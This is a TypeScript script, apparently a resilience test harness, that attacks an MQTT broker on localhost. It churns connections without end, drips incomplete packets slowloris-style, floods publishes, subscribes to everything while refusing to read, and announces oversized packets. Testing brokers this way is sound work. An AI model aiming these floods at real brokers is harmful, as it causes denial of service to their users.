/**
 * A process that does to a broker what a client should not, all at once: `node attacker.js PORT`. Connects without end, leaves packets
 * unfinished, sends as fast as it can, subscribes to everything and reads nothing, announces packets of 256 MB. Says what it did when it ends.
 * `node attacker.js PORT CONNECTIONS SLOW FLOODING USER PASSWORD TOPIC`: so many of these at once, and as whom what sends without end does so.
 */
import { connect as netConnect, type Socket } from 'node:net'

const [port = 0, connections = 50, slow = 16, flooding = 4] = process.argv.slice(2, 6).map(Number)
const [user, password = '', topic = 'attack'] = process.argv.slice(6)
const did = { connections: 0, refused: 0, messages: 0, loris: 0, oversized: 0, deaf: 0 }
let ending = false

const text = (of: string) => Buffer.concat([Buffer.from([0, of.length]), Buffer.from(of)])

/** CONNECT, with the name where `named`. */
const connectPacket = (id: string, named = false) => {
  const who = named && user ? [text(user), text(password)] : []
  const body = Buffer.concat([text('MQTT'), Buffer.from([4, who.length > 0 ? 0xc2 : 2, 0, 60]), text(id), ...who])
  return Buffer.concat([Buffer.from([0x10, body.length]), body])
}

/** Opens one connection, and another one when it is gone. */
function again(kind: keyof typeof did, wait: number, work: (socket: Socket) => void): void {
  if (ending) return
  const socket = netConnect(port, '127.0.0.1')
  socket.on('error', () => {})
  socket.once('connect', () => {
    did[kind]++
    work(socket)
  })
  socket.once('close', () => setTimeout(() => again(kind, wait, work), wait))
}

const payload = Buffer.alloc(100, 0x78)
const publish = Buffer.concat([Buffer.from([0x30, 2 + topic.length + payload.length]), text(topic), payload])
const many = Buffer.concat(new Array(100).fill(publish))

/** As much as the broker takes. */
function flood(socket: Socket): void {
  socket.write(connectPacket(`flood-${Math.random()}`, true))
  const send = () => {
    while (!socket.destroyed && socket.write(many)) did.messages += 100
  }
  socket.on('drain', send)
  socket.once('data', send)
}

for (let i = 0; i < connections; i++) again('connections', 5, (socket) => setTimeout(() => socket.destroy(), 500))
for (let i = 0; i < slow; i++) {
  again('loris', 100, (socket) => {
    socket.write(connectPacket(`loris-${i}-${Math.random()}`))
    const drip = setInterval(() => socket.write(Buffer.from([0x30, 0xff, 0x7f]).subarray(0, 1)), 1_000)
    socket.once('close', () => clearInterval(drip))
  })
}
for (let i = 0; i < flooding; i++) again('messages', 100, flood)
for (let i = 0; i < 2; i++) {
  again('deaf', 100, (socket) => {
    socket.write(connectPacket(`deaf-${i}-${Math.random()}`))
    socket.once('data', () => {
      socket.write(Buffer.from([0x82, 6, 0, 1, 0, 1, 0x23, 0]))
      socket.pause()
    })
  })
}
for (let i = 0; i < 2; i++) {
  again('oversized', 200, (socket) => {
    socket.write(connectPacket(`large-${i}-${Math.random()}`))
    socket.once('data', () => socket.write(Buffer.from([0x30, 0xff, 0xff, 0xff, 0x7f])))
  })
}
process.on('SIGTERM', () => {
  ending = true
  process.stdout.write(`${JSON.stringify(did)}\n`, () => process.exit(0))
})
